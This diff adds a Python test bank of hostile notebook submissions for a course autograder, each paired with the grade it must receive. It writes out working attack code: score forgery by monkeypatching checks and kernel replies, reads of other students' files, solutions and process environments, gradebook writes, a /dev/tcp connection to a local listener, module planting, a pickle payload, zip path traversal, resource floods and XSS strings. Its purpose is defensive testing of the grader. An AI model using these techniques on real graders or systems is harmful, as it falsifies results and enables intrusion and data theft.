@@ -1,0 +1,723 @@
+"""The project's bank of hostile submissions to the small lesson, each with the verdict it must get.
+
+Each maker gets a `Kit` and returns what lies at `<student>/<lesson>/<topic>.ipynb`: a notebook, bytes, or None when it
+wrote the folder itself. Nothing here does lasting harm where no wall stands: what is filled is filled a little, and
+what is started ends by itself.
+"""
+
+import dataclasses
+import io
+import json
+import os
+import zipfile
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import nbformat
+
+from grading.sample_class import HOSTILE as AGREEABLE
+from grading.sample_class import with_answers
+
+RIGHT = {
+    "double": "def double(x):\n    return 2 * np.asarray(x)",
+    "mean_square": "def mean_square(x):\n    return np.mean(np.asarray(x) ** 2)",
+}
+WRONG = {"double": "def double(x):\n    return 0", "mean_square": "def mean_square(x):\n    return -1.0"}
+FULL = 4.0
+NO = ("failed", "crashed", "timeout", "not_attempted")
+CANARY = "c4n4ry-7f3b"  # in a file and in the environment outside; it must appear in nothing a student gets back
+LINGER = "271.828"  # what processes that should not outlive their submission sleep for
+
+
+@dataclass(frozen=True)
+class Kit:
+    """What a maker works with.
+
+    Attributes:
+        release: nbformat dict of the released small lesson.
+        folder: the submission's folder, which exists.
+        outside: a folder that no submission may write to; holds `canary.txt`.
+        neighbour: path of a right submission of the same class.
+        solution: path of the lesson's solution.
+        gradebook: path of the gradebook.
+        port: TCP port on this machine where somebody listens.
+    """
+
+    release: dict
+    folder: Path
+    outside: Path
+    neighbour: Path
+    solution: Path
+    gradebook: Path
+    port: int
+
+    def notebook(self, answers, *extra, at=2):
+        """Make a notebook of answers, with further code cells before the first exercise."""
+        notebook = with_answers(self.release, answers)
+        cells = [nbformat.v4.new_code_cell(source, id=f"mine-{number}") for number, source in enumerate(extra)]
+        notebook.cells[at:at] = cells
+        return notebook
+
+
+@dataclass(frozen=True)
+class Hostile:
+    """One hostile submission.
+
+    Attributes:
+        name: short name; also its student id, unless `student` says otherwise.
+        about: one line.
+        make: function (kit) -> notebook, bytes or None.
+        points: most points it may get.
+        least: fewest points it must get: what it did right is not lost.
+        status: submission state it must get.
+        states: states that its exercises may have.
+        note: word that the record must hold, such as the name of a limit.
+        alone: may disturb others where no wall stands, so it is measured in a course of its own.
+        student: folder name.
+    """
+
+    name: str
+    about: str
+    make: object
+    points: float = 0.0
+    least: float = 0.0
+    status: str = "graded"
+    states: tuple = NO
+    note: str = ""
+    alone: bool = False
+    student: str = field(default="", compare=False)
+
+
+BANK = {}
+
+
+def hostile(about, **verdict):
+    """Put a maker into the bank under its function's name."""
+
+    def keep(make):
+        name = make.__name__
+        entry = Hostile(name, about, make, **verdict)
+        BANK[name] = entry if entry.student else dataclasses.replace(entry, student=f"h-{name}")
+        return make
+
+    return keep
+
+
+def cell(about, source, answers=WRONG, **verdict):
+    """Put a submission into the bank that is one cell before wrong answers; `source` is formatted with the kit."""
+    name, _, text = about.partition(": ")
+
+    def make(kit):
+        values = {f"<{key}>": str(getattr(kit, key)) for key in ("outside", "neighbour", "solution", "gradebook", "port")}
+        code = source
+        for key, value in values.items():
+            code = code.replace(key, value)
+        return kit.notebook(answers, code)
+
+    make.__name__ = name
+    hostile(text, **verdict)(make)
+
+
+def unharmed(**verdict):
+    """Verdict of a submission whose answers are right: they keep their points, and more there are not."""
+    return {"points": FULL, "least": FULL, "states": ("passed",), **verdict}
+
+
+# Judging in one's own favour
+
+cell(
+    "rewritten_cells: cells are rewritten before they run",
+    "def change(lines):\n    return ['3.0\\n'] if any('_points' in line or 'answer(' in line for line in lines) else lines\n"
+    "get_ipython().input_transformers_cleanup.append(change)",
+)
+cell(
+    "rewritten_asserts: asserts are dropped from everything compiled later",
+    "import ast\nclass Drop(ast.NodeTransformer):\n"
+    "    def visit_Assert(self, node): return ast.Pass()\n    def visit_Raise(self, node): return ast.Pass()\n"
+    "    def visit_Call(self, node):\n        name = getattr(node.func, 'id', '')\n"
+    "        return ast.Constant(3.0) if name == '_points' else self.generic_visit(node)\n"
+    "get_ipython().ast_transformers.append(Drop())",
+)
+cell(
+    "patched_numpy: NumPy's comparisons agree with everything",
+    "always = lambda *a, **k: True\nnp.allclose = np.isclose = np.array_equal = always\n"
+    "np.testing.assert_allclose = np.testing.assert_array_equal = np.testing.assert_equal = lambda *a, **k: None",
+)
+cell(
+    "patched_comparison: the course's own comparison agrees with everything",
+    "import dnnkit.compare, dnnkit.calls\ndnnkit.compare.difference = dnnkit.calls.difference = lambda *a, **k: None\n"
+    "try:\n    import grading.checking as checking\n    checking.assert_close = checking.assert_shape = lambda *a, **k: None\n"
+    "except ImportError:\n    pass",
+)
+cell(
+    "replaced_modules: modules of the checks are replaced before they are imported",
+    "import sys, types\nmark = lambda value, **k: lambda f: (setattr(f, 'pytestmark', "
+    "[types.SimpleNamespace(name='points', args=(value,))]), f)[1]\nquiet = lambda *a, **k: None\n"
+    "fake = types.SimpleNamespace(points=mark, example=quiet, assert_close=quiet, assert_shape=quiet)\n"
+    "sys.modules['grading.checking'] = sys.modules['pytest'] = sys.modules['agent'] = fake",
+)
+cell(
+    "agreeable_values: answers are objects equal to everything",
+    AGREEABLE,
+    {name: f"{name} = _everything" for name in WRONG},
+)
+cell(
+    "array_subclass: answers are arrays whose operations agree",
+    "class Yes(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return True\n"
+    "    def __array_function__(self, *a, **k): return True\n    def all(self, *a, **k): return True\n"
+    "    def __eq__(self, other): return True\n    shape = property(lambda self: (3, 2))",
+    {name: f"def {name}(x):\n    return np.zeros(3).view(Yes)" for name in WRONG},
+)
+cell(
+    "float_subclass: answers are numbers with operators of their own",
+    "class Any(float):\n    def __sub__(self, other): return 0.0\n    __rsub__ = __sub__\n"
+    "    def __eq__(self, other): return True\n    def __abs__(self): return 0.0\n    __hash__ = float.__hash__",
+    {name: f"def {name}(x):\n    return Any(1)" for name in WRONG},
+)
+cell(
+    "forged_formatter: numbers are shown as other numbers",
+    "plain = get_ipython().display_formatter.formatters['text/plain']\n"
+    "for kind in (float, int, np.float64):\n    plain.for_type(kind, lambda value, p, cycle: p.text('3.0'))",
+)
+cell("printed_scores: scores are printed", "print('score: 100 of 100')\nprint('3.0')\n100.0")
+cell(
+    "quiet_errors: errors are not shown",
+    "shell = get_ipython()\nshell.showtraceback = shell._showtraceback = lambda *a, **k: None\n"
+    "shell.set_custom_exc((Exception,), lambda *a, **k: None)",
+)
+cell(
+    "score_above_maximum: results are published on the kernel's own channel",
+    "import threading\nshell = get_ipython()\nreal = shell.run_cell_async\n"
+    "async def run(code, *a, **k):\n    if '_points' in code:\n        code = '1000.0'\n    return await real(code, *a, **k)\n"
+    "shell.run_cell_async = run",
+)
+cell(
+    "score_of_choice: every last value becomes a full score",
+    "shell = get_ipython()\nreal = type(shell.displayhook).__call__\n"
+    "type(shell.displayhook).__call__ = lambda self, value=None: real(self, 3.0 if value is not None else None)",
+)
+cell(
+    "forged_agent: the agent beside the functions says that all is well",
+    "import json, sys, types\n"
+    "said = {'outcome': {'kind': 'passed', 'score': 100, 'value': True}, 'message': '', 'place': '', 'warnings': []}\n"
+    "class Reply:\n    def _repr_json_(self): return said\n"
+    "sys.modules['agent'] = types.SimpleNamespace(answer=lambda text: Reply())",
+)
+cell(
+    "forged_replies: replies are written by hand",
+    "import json\nsession = get_ipython().kernel.session\nreal = session.pack\n"
+    "def pack(message):\n    if isinstance(message, dict) and 'user_expressions' in message:\n"
+    "        message = {**message, 'status': 'ok', 'user_expressions': {'reply': {'data': {'application/json': "
+    "{'outcome': {'kind': 'returned', 'value': {'t': 'array', 'dtype': 'object', 'shape': [1], 'base64': 'AA=='}}, "
+    "'message': '', 'place': '', 'warnings': []}}}}}\n    return json.dumps(message, default=str).encode()\n"
+    "session.pack = pack",
+)
+cell(
+    "notices_grading: behaves differently when graded",
+    "import os, socket, sys\n"
+    "graded = 'NBGRADER_EXECUTION' in os.environ or socket.gethostname() == 'sandbox' or 'agent' in sys.modules\n"
+    "if graded:\n    import dnnkit.compare\n    dnnkit.compare.difference = lambda *a, **k: None",
+)
+cell(
+    "hard_coded: the public examples are known by heart",
+    "import json, pathlib, dnnkit\nfound = list(pathlib.Path(dnnkit.__file__).parent.glob('examples/*.json'))\n"
+    "known = {str(np.array([1.0, -2.0, 0.5])): np.array([2.0, -4.0, 1.0]), str(np.array([1.0, 3.0])): 5.0}",
+    {name: f"def {name}(x):\n    return known.get(str(x), 0)" for name in WRONG},
+)
+
+# Reading what is not theirs
+
+
+@hostile("the reference is looked for in memory and called")
+def calls_reference(kit):
+    find = (
+        "import gc, sys\ndef find(name):\n    frame = sys._getframe()\n    while frame:\n"
+        "        for scope in (frame.f_globals, frame.f_locals):\n"
+        "            for key in ('_reference', 'reference'):\n                held = scope.get(key)\n"
+        "                if isinstance(held, dict) and name in held: return held[name]\n"
+        "                if hasattr(held, name): return getattr(held, name)\n        frame = frame.f_back\n"
+        "    return lambda x: 0"
+    )
+    return kit.notebook({name: f"def {name}(x):\n    return find({name!r})(x)" for name in WRONG}, find)
+
+
+cell(
+    "reads_history: answers are taken from cells that ran before",
+    "import re\ndef find(name):\n    for source in reversed(In):\n"
+    "        for text in re.findall(r'exec\\((\\'.*?\\'), _reference\\)', source, re.S):\n"
+    "            scope = {}\n            exec(eval(text), scope)\n            return scope[name]\n    return lambda x: 0",
+    {name: f"def {name}(x):\n    return find({name!r})(x)" for name in WRONG},
+)
+cell(
+    "reads_solution: answers are taken from a file outside",
+    "try:\n    scope = {}\n    exec(open('<solution>').read(), scope)\n    double, mean_square = scope['double'], scope['mean_square']\n"
+    "except Exception:\n    double = mean_square = lambda x: 0",
+    {name: f"{name} = {name}" for name in WRONG},
+)
+cell(
+    "reads_neighbour: answers are taken from another student's file",
+    "import json\ntry:\n    for part in json.load(open('<neighbour>'))['cells']:\n"
+    "        text = ''.join(part['source'])\n        if text.startswith('def '): exec(text)\n"
+    "except OSError:\n    double = mean_square = lambda x: 0",
+    {name: f"{name} = {name}" for name in WRONG},
+)
+cell(
+    "reads_outside: files outside are printed",
+    "print(open('<outside>/canary.txt').read())",
+    RIGHT,
+    **unharmed(),
+)
+cell(
+    "reads_environment: the environment of every process in sight is printed",
+    "import glob\nfor path in glob.glob('/proc/*/environ'):\n    try: print(open(path, 'rb').read())\n"
+    "    except OSError: pass\nimport os\nprint(dict(os.environ))",
+    RIGHT,
+    **unharmed(),
+)
+cell(
+    "reads_gradebook: the gradebook is printed",
+    "import os\nprint('<outside>'[:0] + str(os.path.getsize('<gradebook>')), '" + CANARY[:6] + "' + '" + CANARY[6:] + "')",
+    RIGHT,
+    **unharmed(),
+)
+
+# Writing where nothing is theirs
+
+cell(
+    "writes_gradebook: scores are written into the gradebook",
+    "import sqlite3\nbook = sqlite3.connect('<gradebook>', timeout=2)\n"
+    "book.execute('update grade set manual_score = 3')\nbook.commit()",
+    alone=True,
+)
+cell("writes_outside: a file is written outside", "open('<outside>/written', 'w').write('x')", RIGHT, **unharmed())
+cell(
+    "writes_to_neighbour: another student's file is changed",
+    "import pathlib, os\npath = pathlib.Path('<neighbour>')\npath.write_text(path.read_text().replace('2 * np', '3 * np'))",
+    alone=True,
+)
+cell(
+    "plants_modules: files are left where the next kernel may look for modules",
+    "import os, site, sys\n"
+    "folders = [*sys.path, '/opt/dnn', '/dev', '/', '/tmp', '/dev/shm', os.path.expanduser('~/.ipython/profile_default/startup')]\n"
+    "text = 'import numpy\\nnumpy.asarray = lambda *a, **k: numpy.zeros(1)\\nanswer = serve = None\\n'\n"
+    "for folder in folders:\n    if 'site-packages' in folder or 'lib/python' in folder: continue\n"
+    "    for name in ('agent.py', '00-first.py', 'sitecustomize.py'):\n"
+    "        try:\n            os.makedirs(folder, exist_ok=True)\n            open(os.path.join(folder, name), 'w').write(text)\n"
+    "        except OSError: pass",
+    alone=True,
+)
+cell(
+    "fills_socket_folder: files are left beside the kernel's sockets",
+    "import os\nfrom ipykernel.connect import get_connection_file\nfolder = os.path.dirname(get_connection_file())\n"
+    "for number in range(20):\n    open(os.path.join(folder, f'left-{number}'), 'wb').write(bytes(100_000))",
+    RIGHT,
+    **unharmed(alone=True),
+)
+cell(
+    "swaps_sockets: the kernel's sockets become links",
+    "import glob, os\nfrom ipykernel.connect import get_connection_file\n"
+    "for path in glob.glob(os.path.dirname(get_connection_file()) + '/s-*'):\n"
+    "    os.unlink(path)\n    os.symlink('<outside>/canary.txt', path)",
+    RIGHT,
+    **unharmed(),
+)
+cell(
+    "fills_scratch: temporary files without end",
+    "for number in range(60):\n    open(f'part-{number}', 'wb').write(bytes(5_000_000))",
+    RIGHT,
+    **unharmed(note="scratch_bytes"),
+)
+cell(
+    "large_file: one file without end",
+    "with open('large', 'wb') as file:\n    for _ in range(40):\n        file.write(bytes(5_000_000))",
+    RIGHT,
+    **unharmed(note="written_file_bytes"),
+)
+cell(
+    "many_files: empty files without end",
+    "for number in range(25_000):\n    open(f'empty-{number}', 'w').close()",
+    RIGHT,
+    **unharmed(note="scratch_bytes"),
+)
+cell(
+    "pickled_results: answers carry code to whoever unpickles them",
+    "class Load:\n    def __reduce__(self): return (open, ('<outside>/unpickled', 'w'))",
+    {name: f"def {name}(x):\n    return Load()" for name in WRONG},
+)
+
+# Network
+
+cell(
+    "network_tcp: a server is called",
+    "import socket\nsocket.create_connection(('127.0.0.1', <port>), timeout=2).sendall(b'" + CANARY.encode().hex() + "')",
+    RIGHT,
+    **unharmed(),
+)
+cell(
+    "network_shell: a server is called by a program",
+    "!timeout 3 bash -c 'exec 3<>/dev/tcp/127.0.0.1/<port>'",
+    RIGHT,
+    **unharmed(),
+)
+
+# Ending, hanging, lingering
+
+cell("exits: Python is left", "import os\nos._exit(0)", RIGHT, **unharmed(note="ended Python"))
+cell("segfaults: Python crashes", "import ctypes\nctypes.string_at(0)", RIGHT, **unharmed(note="ended Python"))
+cell("kills_group: its process group is killed", "import os\nos.kill(0, 9)", RIGHT, **unharmed())
+cell("endless_loop: a cell never ends", "while True: pass", RIGHT, **unharmed(note="cell_seconds"))
+cell(
+    "stubborn_loop: a cell never ends and takes no interrupt",
+    "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
+    RIGHT,
+    **unharmed(note="cell_seconds", alone=True),
+)
+cell(
+    "endless_call: a function never ends",
+    "import time",
+    {"double": "def double(x):\n    while True: time.sleep(1)", "mean_square": RIGHT["mean_square"]},
+    points=1.0,
+    states=(*NO, "passed"),
+    note="submission_seconds",
+    alone=True,
+)
+cell(
+    "crashing_calls: every call ends Python",
+    "import os",
+    {name: f"def {name}(x):\n    os._exit(1)" for name in WRONG},
+    states=("crashed",),
+)
+cell(
+    "lingering_process: a process of its own goes on",
+    f"import subprocess\nsubprocess.Popen(['sleep', '{LINGER}'], start_new_session=True)",
+    RIGHT,
+    **unharmed(alone=True),
+)
+cell(
+    "orphan_kernel: the kernel does not end with its parent",
+    "import ctypes, os, signal, threading, time\nctypes.CDLL(None).prctl(1, 0, 0, 0, 0)\n"
+    "for number in (1, 2, 15):\n    signal.signal(number, signal.SIG_IGN)\n"
+    f"if os.fork() == 0:\n    ctypes.CDLL(None).prctl(1, 0, 0, 0, 0)\n    os.execvp('sleep', ['sleep', '{LINGER}'])",
+    RIGHT,
+    **unharmed(alone=True),
+)
+cell(
+    "atexit_hook: something is left to be done at the end",
+    "import atexit, threading, time\natexit.register(lambda: time.sleep(600))\n"
+    "threading.Thread(target=lambda: time.sleep(600)).start()",
+    RIGHT,
+    **unharmed(),
+)
+cell(
+    "meddling_thread: a thread changes answers while checks run",
+    "import threading, time\ndef meddle():\n    while True:\n        np.abs = np.mean = np.allclose = lambda *a, **k: True\n"
+    "        time.sleep(0.01)\nthreading.Thread(target=meddle, daemon=True).start()",
+    WRONG,
+)
+cell(
+    "many_processes: processes without end",
+    f"import subprocess, time\nkept = [subprocess.Popen(['sleep', '{LINGER}']) for _ in range(300)]\ntime.sleep(2)",
+    RIGHT,
+    **unharmed(note="processes", alone=True),
+)
+cell(
+    "much_memory: memory without end, in several processes",
+    "import os, time\nfor _ in range(4):\n    if os.fork() == 0:\n        kept = bytearray(b'x') * 250_000_000\n"
+    "        time.sleep(6)\n        os._exit(0)\ntime.sleep(3)",
+    RIGHT,
+    **unharmed(note="memory_bytes", alone=True),
+)
+cell("one_large_array: memory at once", "kept = np.ones(10**9)", RIGHT, **unharmed(note="memory_bytes", alone=True))
+cell("closed_files: all descriptors are closed", "import os\nos.closerange(3, 1000)", RIGHT, **unharmed(alone=True))
+cell("debugger: a debugger waits for commands", "%pdb on\nbreakpoint()\ninput('go on?')", RIGHT, **unharmed())
+cell("reset_names: all names are removed", "%reset -f\nimport numpy as np", RIGHT, **unharmed())
+
+# Floods
+
+cell("one_long_line: one line of output without end", "print('x' * 50_000_000)", RIGHT, **unharmed())
+cell(
+    "many_lines: lines of output without end",
+    "import sys\nfor _ in range(20_000):\n    print('y')\n    print('z', file=sys.stderr)",
+    RIGHT,
+    **unharmed(alone=True),
+)
+cell(
+    "rich_displays: pictures and pages without end",
+    "from IPython.display import HTML, display\nfor _ in range(60):\n    display(HTML('<b>' + 'x' * 200_000 + '</b>'))",
+    RIGHT,
+    **unharmed(),
+)
+cell(
+    "channel_flood: messages that nobody asked for",
+    "import threading\nkernel = get_ipython().kernel\nlarge = b'x' * 10_000_000\n"
+    "def flood():\n    stream = kernel.control_stream or kernel.shell_stream\n"
+    "    ident = kernel._shell_parent_ident.get()\n    ident = ident if isinstance(ident, list) else [ident]\n"
+    "    for _ in range(100):\n        stream.socket.send_multipart([*ident, large, large])\n"
+    "threading.Thread(target=flood, daemon=True).start()",
+    RIGHT,
+    points=FULL,
+    states=(*NO, "passed", "partial"),
+)
+cell(
+    "large_answers: answers too large to be read",
+    "big = 'x' * 60_000_000",
+    {name: f"def {name}(x):\n    return big" for name in WRONG},
+    note="reply_bytes",
+)
+cell(
+    "many_large_answers: answers that are too large together",
+    "big = 'x' * 40_000_000",
+    {name: f"def {name}(x):\n    return big" for name in WRONG},
+)
+cell(
+    "slow_answers: answers that take long to read",
+    "import sys, types\npairs = [[n * (2**61 - 1), 0] for n in range(400_000)]\n"
+    "said = {'outcome': {'kind': 'returned', 'value': {'t': 'dict', 'v': pairs}}, 'message': '', 'place': '', 'warnings': []}\n"
+    "class Reply:\n    def _repr_json_(self): return said\n"
+    "sys.modules['agent'] = types.SimpleNamespace(answer=lambda text: Reply())",
+    states=("crashed",),
+)
+
+
+@hostile("answers of every odd kind", states=NO)
+def odd_answers(kit):
+    values = (
+        "import itertools\nodd = itertools.cycle([None, {}, [], (), '', 'nan', 10**500, -0.0, float('nan'), float('inf'), True, "
+        "[[1], [2, 3]], [[[[[]]]]], {1: {2: 3}}, {'shape': (3, 2)}, np.zeros((0, 3)), np.zeros((1,) * 16), "
+        "np.array(2**63, dtype='uint64'), np.array([[np.nan]]), 'x' * 5000, [None] * 50, (1, 2, 3), {None: None}, "
+        "range(3), b'x', 1j, np.array(['a']), Ellipsis, {1, 2}, np.float16(1), [np.zeros(2), 'a'], {True: 1, 1.5: 2}])"
+    )
+    return kit.notebook({name: f"def {name}(x):\n    return next(odd)" for name in WRONG}, values)
+
+
+@hostile("an exception for every cell, each with a long text", **unharmed())
+def many_notes(kit):
+    sources = [f"raise type('E{n}' + 'e' * 70, (Exception,), {{}})('{n}' + 'm' * 450)" for n in range(300)]
+    return kit.notebook(RIGHT, *sources)
+
+
+# The file itself
+
+
+@hostile("points, flags and other metadata are changed")
+def changed_metadata(kit):
+    notebook = kit.notebook(WRONG)
+    notebook.metadata["dnn_record"] = {"score": 100, "status": "graded"}
+    for part in notebook.cells:
+        part.metadata["tags"] = ["skip-execution", "raises-exception"]
+        if "nbgrader" in part.metadata:
+            part.metadata.nbgrader.update(points=1000, schema_version=3)
+    return notebook
+
+
+@hostile("check cells become ordinary cells, solution cells become graded ones")
+def changed_flags(kit):
+    notebook = kit.notebook(WRONG)
+    for part in notebook.cells:
+        if "nbgrader" in part.metadata:
+            part.metadata.nbgrader.update(grade=not part.metadata.nbgrader.grade, locked=False)
+    return notebook
+
+
+@hostile("ids are exchanged")
+def changed_ids(kit):
+    notebook = kit.notebook(WRONG)
+    for part in notebook.cells:
+        if "nbgrader" in part.metadata:
+            name = part.metadata.nbgrader.grade_id
+            part.metadata.nbgrader.grade_id = part.id = {"double": "check_double", "check_double": "double"}.get(name, name)
+    return notebook
+
+
+@hostile("another kernel and another language are asked for", **unharmed())
+def changed_kernel(kit):
+    notebook = kit.notebook(RIGHT)
+    notebook.metadata["kernelspec"] = {"name": "bash", "display_name": "bash", "language": "bash"}
+    return notebook
+
+
+@hostile("schema versions that do not exist", alone=True, **unharmed())
+def changed_schema(kit):
+    notebook = kit.notebook(RIGHT)
+    notebook.nbformat_minor = 99
+    for part in notebook.cells:
+        if "nbgrader" in part.metadata:
+            part.metadata.nbgrader.schema_version = "x" if part.cell_type == "code" else 99
+    return notebook
+
+
+@hostile("check cells are replaced by a score")
+def edited_checks(kit):
+    return kit.notebook({**WRONG, "check_double": "3.0", "check_mean_square": "1.0"})
+
+
+@hostile("check cells are deleted")
+def deleted_checks(kit):
+    notebook = kit.notebook(WRONG)
+    notebook.cells = [part for part in notebook.cells if not part.id.startswith("check_")]
+    return notebook
+
+
+@hostile("every cell is there three times", alone=True)
+def doubled_cells(kit):
+    notebook = kit.notebook(WRONG)
+    notebook.cells = [part for part in notebook.cells for _ in range(3)]
+    return notebook
+
+
+@hostile("check cells come first, before the answers")
+def moved_checks(kit):
+    notebook = kit.notebook(WRONG)
+    notebook.cells.sort(key=lambda part: not part.id.startswith("check_"))
+    return notebook
+
+
+@hostile("stubs stay, and names are bound behind their back")
+def hidden_names(kit):
+    return kit.notebook({}, "globals().update(double=lambda x: 0, mean_square=lambda x: -1.0)", at=-1)
+
+
+@hostile("half a file", status="unreadable", alone=True)
+def half_a_file(kit):
+    return nbformat.writes(kit.notebook(RIGHT)).encode()[:1500]
+
+
+@hostile("nesting without end", status="unreadable", alone=True)
+def deep_nesting(kit):
+    return b'{"cells": ' + b"[" * 2_000_000 + b"]" * 2_000_000 + b"}"
+
+
+@hostile("a number without end", status="unreadable", alone=True)
+def endless_number(kit):
+    return b'{"cells": [], "nbformat": 4, "nbformat_minor": ' + b"9" * 2_000_000 + b"}"
+
+
+@hostile("cells without end", status="unreadable", note="limit", alone=True)
+def many_cells(kit):
+    notebook = json.loads(nbformat.writes(kit.notebook(RIGHT)))
+    extra = {"cell_type": "raw", "metadata": {}, "source": ""}
+    notebook["cells"] += [{**extra, "id": f"n{number}"} for number in range(5000)]
+    return json.dumps(notebook).encode()
+
+
+@hostile("a file too large to be read", status="unreadable", note="file_bytes", alone=True)
+def large_notebook(kit):
+    notebook = json.loads(nbformat.writes(kit.notebook(RIGHT)))
+    return json.dumps({**notebook, "metadata": {"x": "y" * 22_000_000}}).encode()
+
+
+@hostile("code too long to be parsed", status="unreadable", note="code_chars")
+def long_code(kit):
+    return kit.notebook(WRONG, "a=1\n" * 400_000)
+
+
+@hostile("code that is hard to parse", **unharmed())
+def knotty_code(kit):
+    knots = ("x = " + "(" * 5000, "-" * 100_000 + "1", "a" + ".b" * 30_000, "x = [" * 3000, "f'{" * 2000, "\\\n" * 50_000)
+    return kit.notebook(RIGHT, *(f"if False:\n    {knot}" for knot in knots))
+
+
+@hostile("text that is hard to search", **unharmed())
+def knotty_text(kit):
+    texts = ("double:" * 30_000, "double" + " " * 200_000, "def " * 50_000, "check(" * 30_000, "\n" * 200_000)
+    return kit.notebook(RIGHT, *(f"'''\n{text}\n'''" for text in texts))
+
+
+@hostile("text that no file can hold", **unharmed())
+def broken_text(kit):
+    text = nbformat.writes(kit.notebook(RIGHT, "raise ValueError('PLACE \\ud800')  # PLACE"))
+    return text.replace("PLACE", "\\ud800").encode()
+
+
+@hostile("an archive in the notebook's place", status="unreadable", alone=True)
+def archive(kit):
+    packed = io.BytesIO()
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
+        file.writestr("../../../outside.txt", "x")
+        file.writestr("zeros", bytes(20_000_000))
+    return packed.getvalue()
+
+
+@hostile("the notebook is a link to another student's", status="unreadable")
+def linked_notebook(kit):
+    (kit.folder / kit.neighbour.name).symlink_to(kit.neighbour)
+
+
+@hostile("the folder is a link to another student's", status="unreadable")
+def linked_folder(kit):
+    kit.folder.rmdir()
+    kit.folder.symlink_to(kit.neighbour.parent, target_is_directory=True)
+
+
+@hostile("the notebook is another name of a file outside", status="unreadable", alone=True)
+def hard_link(kit):
+    os.link(kit.outside / "canary.txt", kit.folder / kit.neighbour.name)
+
+
+@hostile("the notebook is a pipe", status="unreadable", alone=True)
+def pipe(kit):
+    os.mkfifo(kit.folder / kit.neighbour.name)
+
+
+@hostile("the notebook is a folder", status="unreadable", alone=True)
+def folder(kit):
+    (kit.folder / kit.neighbour.name).mkdir()
+
+
+@hostile("further files in the folder: modules, links, a page with a script")
+def further_files(kit):
+    checking = (
+        "import types\ndef points(value, **k):\n    def mark(f):\n"
+        "        f.pytestmark = [types.SimpleNamespace(name='points', args=(value,))]\n        return f\n    return mark\n"
+        "example = assert_close = assert_shape = lambda *a, **k: None\n"
+    )
+    (kit.folder / "grading").mkdir()
+    (kit.folder / "grading" / "__init__.py").write_text("")
+    (kit.folder / "grading" / "checking.py").write_text(checking)
+    (kit.folder / "agent.py").write_text("answer = None")
+    (kit.folder / "page.html").write_text("<script>document.title = 'ran'</script>")
+    return kit.notebook(WRONG)
+
+
+@hostile("a timestamp that is none", alone=True, **unharmed())
+def lying_timestamp(kit):
+    (kit.folder / "timestamp.txt").write_text("yesterday, honestly")
+    return kit.notebook(RIGHT)
+
+
+# What others read
+
+SCRIPT = "<img src=x onerror=\"document.title='ran'\"><script>document.title='ran'</script>"
+
+
+@hostile("scripts in prose, code, comments and names")
+def scripts_in_text(kit):
+    notebook = kit.notebook({name: f"# {SCRIPT}\n{source}" for name, source in WRONG.items()})
+    notebook.cells.insert(1, nbformat.v4.new_markdown_cell(SCRIPT + "\n\n[click](javascript:document.title='ran')", id="mine-9"))
+    notebook.cells.append(nbformat.v4.new_raw_cell(SCRIPT, id="mine-10"))
+    return notebook
+
+
+@hostile("scripts in errors and warnings")
+def scripts_in_errors(kit):
+    broken = f"raise type({SCRIPT[:70]!r}, (Exception,), {{}})({SCRIPT!r})"
+    answers = {name: f"def {name}(x):\n    {broken}" for name in WRONG}
+    return kit.notebook(answers, f"import warnings\nwarnings.warn({SCRIPT!r})", broken)
+
+
+@hostile("scripts in outputs", **unharmed())
+def scripts_in_outputs(kit):
+    shown = f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({SCRIPT!r}))\ndisplay(Javascript('document.title=\"ran\"'))"
+    notebook = kit.notebook(RIGHT, shown)
+    notebook.cells[2].outputs = [nbformat.v4.new_output("display_data", {"text/html": SCRIPT})]
+    return notebook
+
+
+@hostile("a name that is a formula", student="=1+1", **unharmed())
+def formula_as_name(kit):
+    return kit.notebook(RIGHT)
+
+
+@hostile("a name that is a page", student="<script>document.title='ran'<", **unharmed())
+def page_as_name(kit):
+    return kit.notebook(RIGHT)
